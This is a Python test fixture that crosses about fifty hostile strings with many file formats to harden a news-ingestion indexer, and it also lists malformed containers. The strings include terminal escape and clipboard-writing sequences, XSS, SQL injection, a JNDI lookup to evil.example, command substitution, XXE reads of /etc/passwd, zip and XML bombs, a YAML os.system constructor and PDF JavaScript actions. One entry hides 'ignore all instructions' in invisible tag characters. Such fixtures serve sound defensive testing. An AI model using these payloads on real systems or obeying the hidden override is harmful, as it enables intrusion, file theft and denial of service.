"""Hostile inputs: every trick in every container that can carry it, and containers that are the trick themselves."""
# ruff: noqa: E501 - one input per line reads best

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import zipfile
import zlib
from html import escape
from typing import NamedTuple

from tests.index.ingest.makers import docx, odt, pdf, warc_record, zipped

BEFORE = "A ferry sank off Keld on Monday with six people on board, the coast guard said. "
AFTER = " Rescue boats searched the sea until dark and found nobody in the water, the mayor told reporters."

TRICKS = {
    "csi colour": "\x1b[31mred\x1b[0m",
    "csi clear": "\x1b[2J\x1b[H\x1b[3J",
    "csi without end": "\x1b[999999999999",
    "csi report": "\x1b[6n\x1b[c\x1b[>q\x1b[21t",
    "osc title": "\x1b]0;pwned\x07",
    "osc 8 link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "osc without end": "\x1b]52;c;" + "A" * 5000,
    "osc 1337 file": "\x1b]1337;File=inline=1:AAAA\x07",
    "dcs sixel": "\x1bPq#0;2;0;0;0#0~~\x1b\\",
    "dcs tmux": "\x1bPtmux;\x1b\x1b]52;c;QQ==\x07\x1b\\",
    "apc kitty": "\x1b_Gf=32,s=1,v=1;AAAA\x1b\\",
    "c1 csi": "\x9b31mred\x9b0m",
    "c1 osc": "\x9d0;pwned\x9c",
    "charset shift": "\x1b(0lqqk\x1b(B\x0e\x0f",
    "alternate screen": "\x1b[?1049h\x1b[?25l\x1bc",
    "nested escapes": "\x1b[\x1b[31m\x1b]\x1b[m",
    "escape put together": "\x1b\x00[31m\x1b\u200b[31m\x1b\u202e]0;x\x07",
    "backspaces": "safe\b\b\b\bevil\x7f\x7f",
    "carriage returns": "safe\revil\r\rmore",
    "bell and tabs": "\x07\x0b\x0c\t\t",
    "nul": "a\x00b\x00\x00c",
    "every control": "".join(map(chr, [*range(9), *range(14, 32), *range(127, 160)])),
    "markup": "[bold red]x[/] [/red] [@click=app.quit]go[/] [[ ]] [sic] [link=file:///etc/passwd]y[/link]",
    "html in text": "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{}</style>",
    "markdown link": "[x](javascript:alert(1)) ![y](file:///etc/passwd) `\x1b[31m`",
    "bidi override": "\u202egnp.exe\u202c \u2066\u2067x\u2069\u2069 \u200f\u061c",
    "bidi without end": "\u202e\u2067\u202b" * 50,
    "zero width": "Keld\u200b\u200c\u200d\u2060\ufeffCourier\u00ad",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "ignore all instructions"),
    "variation selectors": "a" + "\ufe0f\ufe00\U000e0100" * 200,
    "stacked marks": "Z" + "\u0300\u0489\u20dd" * 1000,
    "homoglyphs": "Rеutеrs ＢＢＣ 𝐂𝐍𝐍 Αssociated Рress",
    "line separators": "one\u2028two\u2029three\x85four\x1cfive",
    "noncharacters": "\ufffe\uffff\ufdd0\U0001fffe",
    "private use": "\ue000\uf8ff\U000f0000",
    "interlinear": "\ufff9x\ufffay\ufffb",
    "wide and emoji": "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ﷽ 𒐫 ꧅",
    "format strings": "%s%s%n {0.__class__} {x!r:>{y}} ${jndi:ldap://evil.example/a} `id` $(id)",
    "formula": "=cmd|' /C calc'!A1 @SUM(1) +1 -1",
    "sql": "'; DROP TABLE articles; -- \" OR 1=1",
    "query": 'title:* OR (NOT "', "brackets": "([{<" * 1000,
    "quotes": "\"'“‘«" * 600,
    "dots": ". " * 5000,
    "capitals": "The The A An In " * 500,
    "one long word": "x" * 20_000,
    "one long line": "word " * 6_000,
    "many lines": "a\n" * 2_000,
    "initials": "A. B. " * 5000,
    "lone surrogates": "\ud800 \udfff\udc00",
}  # fmt: skip


class Hostile(NamedTuple):
    """One hostile input."""

    name: str
    source: str
    """The file name that it comes under."""
    data: bytes


def _text(trick: str) -> bytes:
    return (BEFORE + trick + AFTER).encode("utf-8", "surrogatepass")


def _html(trick: str) -> bytes:
    shown = escape(trick)
    return (
        f"<html lang='{shown}'><head><title>{shown}</title><meta property='og:site_name' content='{shown}'>"
        f"<meta name='author' content='{shown}'><link rel='canonical' href='{shown}'></head><body><article>"
        f"<p>{BEFORE}{shown}{AFTER}</p><p>{BEFORE}{AFTER}</p></article></body></html>"
    ).encode("utf-8", "surrogatepass")


def _json(trick: str) -> bytes:
    fields = dict.fromkeys(("title", "outlet", "author", "url", "published", "language"), trick)
    return json.dumps({**fields, "text": BEFORE + trick + AFTER}).encode()


def _table(trick: str) -> bytes:
    cell = '"' + trick.replace('"', '""') + '"'
    return f'title,outlet,text\r\n{cell},{cell},"{BEFORE}"\r\n'.encode("utf-8", "surrogatepass")


def _mail(trick: str) -> bytes:
    word = base64.b64encode(trick[:3000].encode("utf-8", "surrogatepass")).decode()
    head = f"From: =?utf-8?b?{word}?= <a@b>\r\nSubject: =?utf-8?b?{word}?=\r\nDate: =?utf-8?b?{word}?=\r\n"
    return head.encode() + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + _text(trick)


def _feed(trick: str) -> bytes:
    shown = escape(trick)
    return (
        f"<rss version='2.0'><channel><title>{shown}</title><item><title>{shown}</title><link>{shown}</link>"
        f"<guid>{shown}</guid><description>{BEFORE}{shown}{AFTER}</description></item></channel></rss>"
    ).encode("utf-8", "surrogatepass")


def _headers(trick: str) -> bytes:
    flat = " ".join(trick.split("\n"))
    return f"Title: {flat}\nSource: {flat}\nDate: {flat}\nAuthor: {flat}\nURL: {flat}\n\n".encode(
        "utf-8", "surrogatepass"
    ) + _text(trick)


def _front_matter(trick: str) -> bytes:
    return f"---\ntitle: {json.dumps(trick)}\noutlet: {json.dumps(trick)}\n---\n".encode() + _text(trick)


def _web_archive(trick: str) -> bytes:
    return warc_record("https://courier.example/" + escape(trick[:200]).replace("\n", " ").replace("\r", " ")
                       .encode("ascii", "replace").decode(), _html(trick))  # fmt: skip


def _ris(trick: str) -> bytes:
    flat = " ".join(trick.split("\n"))
    return f"TY  - NEWS\nTI  - {flat}\nAU  - {flat}\nT2  - {flat}\nUR  - {flat}\nDA  - {flat}\nAB  - ".encode(
        "utf-8", "surrogatepass"
    ) + _text(trick)


def _bibtex(trick: str) -> bytes:
    fields = f"title = {{{trick}}}, author = {{{trick}}}, journal = {{{trick}}}, date = {{{trick}}}"
    return f"@article{{a, {fields}, abstract = {{".encode("utf-8", "surrogatepass") + _text(trick) + b"}}"


def _database(trick: str) -> bytes:
    flat = " ".join(trick.split("\n"))
    head = f"1 of 2 DOCUMENTS\n\n{flat}\n\nMay 3, 2025\n\n{flat}\n\nBYLINE: {flat}\n\nLENGTH: 9 words\n\n"
    return head.encode("utf-8", "surrogatepass") + _text(trick) + b"\n\nLOAD-DATE: x\n"


def _credits(trick: str) -> bytes:
    flat = " ".join(trick.split("\n"))
    head = f"{flat} - The Herald\nBy {flat} | 3 May 2025\n[{flat}]({flat})\nUpdated {flat}\n\n"
    return head.encode("utf-8", "surrogatepass") + _text(trick)


CARRIERS = {
    "a.txt": _text,
    "headers.txt": _headers,
    "a.md": _front_matter,
    "a.html": _html,
    "a.json": _json,
    "a.csv": _table,
    "a.eml": _mail,
    "a.rss": _feed,
    "a.ris": _ris,
    "a.bib": _bibtex,
    "nexis.txt": _database,
    "credits.txt": _credits,
    "a.warc": _web_archive,
    "a.docx": lambda trick: docx(f"<w:p><w:r><w:t>A ferry {escape(trick)} sank.</w:t></w:r></w:p>"),
    "a.zip": lambda trick: zipped({"in.txt": _text(trick), "in.html": _html(trick)}),
}


def carried() -> list[Hostile]:
    """Every trick in every container."""
    return [
        Hostile(f"{name} in {source}", source, make(trick))
        for name, trick in TRICKS.items()
        for source, make in CARRIERS.items()
    ]


def _lying_zip() -> bytes:
    """An archive whose file says that it unpacks to little."""
    data = bytearray(zipped({"a.txt": b"a" * 2_000_000}))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def _encrypted_zip() -> bytes:
    data = bytearray(zipped({"a.txt": b"text"}))
    data[6] |= 1
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("a.txt", "a.txt ", "A.TXT"):
            archive.writestr(name, BEFORE)
    return out.getvalue()


def _nested_mail(depth: int) -> bytes:
    head = b"From: a@b\r\nSubject: x\r\n"
    body = b"Content-Type: text/plain\r\n\r\nA ferry sank."
    for number in range(depth):
        cut = b"c%d" % number
        body = b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n%s\r\n--%s--\r\n" % (
            cut,
            cut,
            body,
            cut,
        )
    return head + body


_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))

CONTAINERS = [
    Hostile("nothing but a page break", "a.json", b"\x0c"),
    Hostile("nothing but wide spaces", "a.jsonl", "\u3000\u2028\x85".encode()),
    Hostile("a year beyond all numbers", "a.eml", b"Date: Mon, 06 May 202020202024 08:30:00 +0200\r\n\r\nA ferry sank."),
    Hostile("entities in references", "a.rdf", f"<!DOCTYPE r [{_LAUGHS}]><rdf:RDF xmlns:rdf='r'>&a9;</rdf:RDF>".encode()),
    Hostile("deep references", "a.rdf", b'<rdf:RDF xmlns:rdf="r">' + b"<a>" * 50_000),
    Hostile("deep braces", "a.bib", b"@article{a, abstract = {" + b"{" * 100_000),
    Hostile("entries without an end", "a.bib", b"@article{" * 50_000),
    Hostile("records without an end", "a.ris", b"TY  - NEWS\n" * 50_000),
    Hostile("documents without a text", "a.txt", b"1 of 2 DOCUMENTS\nLENGTH: 1\n" * 5_000),
    Hostile("bylines without an end", "a.txt", b"By A, B | By A, B\n" * 20_000 + b"x"),
    Hostile("names of authors without an end", "a.html", b"<html><body>" + b"<span class=author>" * 20_000 + b"x"),
    Hostile("empty", "a.txt", b""),
    Hostile("spaces", "a.txt", b" \n\t" * 1000),
    Hostile("only controls", "a.txt", bytes(range(32)) * 10),
    Hostile("only a mark", "a.txt", b"\xef\xbb\xbf"),
    Hostile("every byte", "a.txt", bytes(range(256)) * 20),
    Hostile("odd utf-16", "a.txt", b"\xff\xfea\0b"),
    Hostile("utf-32", "a.txt", "text text".encode("utf-32")),
    Hostile("utf-7", "a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    Hostile("overlong utf-8", "a.txt", b"\xc0\xae\xc0\xae\xc0\xaf etc \xf5\x80\x80\x80 passwd"),
    Hostile("a program", "a.txt", b"\x7fELF" + b"\0" * 500),
    Hostile("a picture", "a.html", b"\x89PNG\r\n\x1a\n" + bytes(500)),
    Hostile("ten megabytes in one line", "a.txt", b"x" * 10_000_000),
    Hostile("a megabyte of words", "a.txt", b"word " * 200_000),
    Hostile("a megabyte of escapes", "a.txt", b"\x1b[31m" * 200_000),
    Hostile("a megabyte of open escapes", "a.txt", b"\x1b]" * 500_000),
    Hostile("a zip bomb", "a.zip", zipped({"a.txt": b"\0" * 20_000_000})),
    Hostile("a zip that lies", "a.zip", _lying_zip()),
    Hostile("an encrypted zip", "a.zip", _encrypted_zip()),
    Hostile("names twice", "a.zip", _twice()),
    Hostile("a zip in a zip", "a.zip", zipped({"b.zip": zipped({"c.zip": zipped({"d.txt": b"x"})})})),
    Hostile("many files", "a.zip", zipped({f"{n}.txt": b"" for n in range(21_000)})),
    Hostile("names with controls", "a.zip", zipped({"\x1b[31m.txt": b"text", "a\nb.txt": b"text", "\u202etxt.exe.txt": b"x"})),
    Hostile("a zip of nothing", "a.zip", zipped({})),
    Hostile("half a zip", "a.zip", zipped({"a.txt": b"text" * 1000})[:60]),
    Hostile("an unknown method", "a.zip", zipped({"a.txt": b"x"}).replace(b"\x08\0", b"\x63\0")),
    Hostile("lzma", "a.zip", zipped({"a.txt": b"A ferry sank." * 50}, zipfile.ZIP_LZMA)),
    Hostile("a document bomb", "a.docx", docx("<w:p/>" * 4_000_000)),
    Hostile("a document in a zip bomb", "a.zip", zipped({f"{n}.docx": docx("<w:p/>" * 4_000_000) for n in range(3)})),
    Hostile("a document of entities", "a.docx", docx("<w:p><w:r><w:t>&b;</w:t></w:r></w:p>",
            '<!DOCTYPE a [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]>')),
    Hostile("a document that reads a file", "a.docx", docx("<w:p><w:r><w:t>&b;</w:t></w:r></w:p>",
            '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    Hostile("a deep document", "a.odt", odt("<text:p>" * 100_000 + "A ferry" + "</text:p>" * 100_000)),
    Hostile("deep tables", "a.docx", docx("<w:tbl><w:tr><w:tc>" * 50_000)),
    Hostile("ends before beginnings", "a.docx", docx("</w:p></w:tr><w:t>x</w:t>")),
    Hostile("a locked document", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    Hostile("gzip", "a.gz", gzip.compress(b"text")),
    Hostile("a web archive bomb", "a.warc.gz", gzip.compress(warc_record("http://a", b"\0" * 25_000_000))),
    Hostile("a web archive of nonsense", "a.warc.gz", gzip.compress(b"nonsense" * 1000)),
    Hostile("a web archive with a wrong length", "a.warc", warc_record("http://a", b"x").replace(b"Length: ", b"Length: -")),
    Hostile("half gzip", "a.warc.gz", gzip.compress(warc_record("http://a", b"x" * 9000))[:50]),
    Hostile("deep json", "a.json", b"[" * 200_000),
    Hostile("deep json objects", "a.json", b'{"a":' * 200_000 + b"1" + b"}" * 200_000),
    Hostile("deep articles", "a.json", b'{"articles":[' * 50 + b'{"text":"x y z"}' + b"]}" * 50),
    Hostile("a huge number", "a.json", b'{"text": "A ferry sank.", "date": ' + b"9" * 5000 + b"}"),
    Hostile("infinities", "a.json", b'{"text": "A ferry sank.", "date": [NaN, Infinity, -1e999]}'),
    Hostile("wrong types", "a.json", b'{"text": "A ferry", "title": [[[]]], "url": {}, "author": [1, null], "date": true}'),
    Hostile("names twice in json", "a.json", b'{"text": "one", "text": "two", "TEXT": "three"}'),
    Hostile("many articles", "a.json", json.dumps([{"text": "A ferry sank."}] * 500).encode()),
    Hostile("lines of nonsense", "a.jsonl", b'{"text": "x y"}\n{nonsense\n\0\n[]\n"x"\n'),
    Hostile("deep html", "a.html", b"<div>" * 60_000 + b"<p>A ferry sank.</p>"),
    Hostile("deep lists", "a.html", b"<ul><li>" * 20_000 + b"A ferry sank off Keld."),
    Hostile("open tags", "a.html", b"<a <b <c " * 50_000),
    Hostile("open comment", "a.html", b"<html><body><!--" + b"x" * 500_000),
    Hostile("open script", "a.html", b"<html><script>" + b"a<b " * 100_000),
    Hostile("many attributes", "a.html", b"<p " + b"a=b " * 100_000 + b">A ferry sank.</p>"),
    Hostile("many comments", "a.html", b"<!-- x -->" * 50_000 + b"<html><p>A ferry sank.</p></html>"),
    Hostile("metadata of nonsense", "a.html", b"<html><head><script type='application/ld+json'>{\"@graph\":[[[{\"@type\":7}]]]"
            b"</script></head><body><p>A ferry sank off Keld on Monday with six on board.</p></body></html>"),
    Hostile("deep metadata", "a.html", b"<html><head><script type='application/ld+json'>" + b"[" * 100_000
            + b"</script></head><body><p>A ferry sank off Keld on Monday with six on board.</p></body></html>"),
    Hostile("a base elsewhere", "a.html", b"<html><head><base href='http://evil.example/'><meta http-equiv=refresh "
            b"content='0;url=http://evil.example'></head><body><p>A ferry sank off Keld on Monday.</p></body></html>"),
    Hostile(
        "an entity of a feed beyond all characters",
        "a.xml",
        b"<?xml version='1.0'?><rss version='2.0'><channel><title>A &#x99999999999999999999110000; < ferry",
    ),
    Hostile("entities of html", "a.html", b"<p>A ferry &#0; &#27;[31m &#x9b;31m &#xd800; &#99999999; &bogus; sank &#8238; now.</p>"),
    Hostile("charset of html", "a.html", b"<meta charset='rot13'><p>A ferry sank off Keld on Monday.</p>"),
    Hostile("a billion laughs", "a.rss", f'<!DOCTYPE r [<!ENTITY a0 "ha">{_LAUGHS}]><rss><channel><title>&a9;</title></channel></rss>'.encode()),
    Hostile("quadratic blowup", "a.xml", b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><rss>' + b"&a;" * 5000 + b"</rss>"),
    Hostile("an external entity", "a.xml", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>'),
    Hostile("an external dtd", "a.xml", b'<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd"><rss version="2.0"><channel/></rss>'),
    Hostile("a parameter entity", "a.xml", b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]><rss/>'),
    Hostile("an inclusion", "a.xml", b'<rss xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></rss>'),
    Hostile("deep xml", "a.xml", b"<rss>" + b"<a>" * 12_000),
    Hostile("deep lists of feeds", "a.opml", b"<opml>" + b"<outline>" * 50_000),
    Hostile("a feed of html", "a.rss", b"<html><body>no feed</body></html>"),
    Hostile("many entries", "a.rss", b"<rss version='2.0'><channel>" + b"<item><title>x</title></item>" * 1500 + b"</channel></rss>"),
    Hostile("a feed with wrong dates", "a.rss", b"<rss version='2.0'><channel><item><pubDate>99 Foo 99999</pubDate><description>x y</description></item></channel></rss>"),
    Hostile("deep mail", "a.eml", _nested_mail(200)),
    Hostile("very deep mail", "a.eml", _nested_mail(400)),
    Hostile("many parts", "a.eml", b"Subject: x\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n" + b"--c\r\n\r\nx\r\n" * 1500),
    Hostile("a long header", "a.eml", b"Subject: " + b"x" * 1_000_000 + b"\r\n\r\nA ferry sank."),
    Hostile("headers of nonsense", "a.eml", b"From: <<>>,,;;\"\r\nDate: Foo, 99 Bar\r\nSubject: =?x?q?=?=\r\nContent-Type: ;;;=\r\n\r\nText here."),
    Hostile("an unknown transfer", "a.eml", b"Subject: x\r\nContent-Transfer-Encoding: rot13\r\nContent-Type: text/plain; charset=x-evil\r\n\r\nText."),
    Hostile("broken base64", "a.eml", b"Subject: x\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%====A"),
    Hostile("header injection", "a.eml", b"Subject: =?utf-8?q?a=0d=0aBcc:_x=1b[31m?=\r\n\r\nText of it."),
    Hostile("a wide table", "a.csv", b",".join([b"text"] * 50_000) + b"\n"),
    Hostile("an open quote", "a.csv", b'text,title\n"' + b"x,y\n" * 30_000),
    Hostile("a huge cell", "a.csv", b'text\n"' + b"x" * 1_000_000 + b'"\n'),
    Hostile("nul in a table", "a.csv", b"text,title\nA ferry\0 sank,x\n"),
    Hostile("ragged rows", "a.csv", b"text,title\na\na,b,c,d,e,f\n,,,,\n"),
    Hostile("yaml that builds objects", "a.md", b"---\ntitle: !!python/object/apply:os.system ['true']\n---\nA ferry sank."),
    Hostile("yaml that laughs", "a.md", b"---\na: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\ntitle: [*c,*c]\n---\nA ferry sank."),
    Hostile("deep yaml", "a.md", b"---\ntitle: " + b"[" * 1100 + b"\n---\nA ferry sank."),
    Hostile("front matter without end", "a.md", b"---\ntitle: x\n" * 5000),
    Hostile("deep markdown", "a.md", b"> " * 5000 + b"A ferry sank."),
    Hostile("markdown brackets", "a.md", b"[" * 12_000 + b"](" * 300),
    Hostile("markdown stars", "a.md", b"*a_ " * 8_000),
    Hostile("a pdf of nothing", "a.pdf", b"%PDF-1.7\n%%EOF"),
    Hostile("a pdf of noise", "a.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 100),
    Hostile("a pdf with actions", "a.pdf", pdf([["A ferry sank off Keld."]]).replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert)>>")),
    Hostile("a pdf with escapes", "a.pdf", pdf([["A ferry \x1b[31m sank \x9b31m off Keld."]], {"Title": "\x1b]0;x\x07"})),
    Hostile("a pdf in a circle", "a.pdf", pdf([["x"]]).replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]")),
    Hostile("a pdf bomb", "a.pdf", pdf([["x"]]).replace(b"<</Length", b"<</Filter/FlateDecode/Length").replace(b"BT", zlib.compress(b"\0" * 10_000_000)[:2])),
]  # fmt: skip
"""Containers that are the trick themselves."""
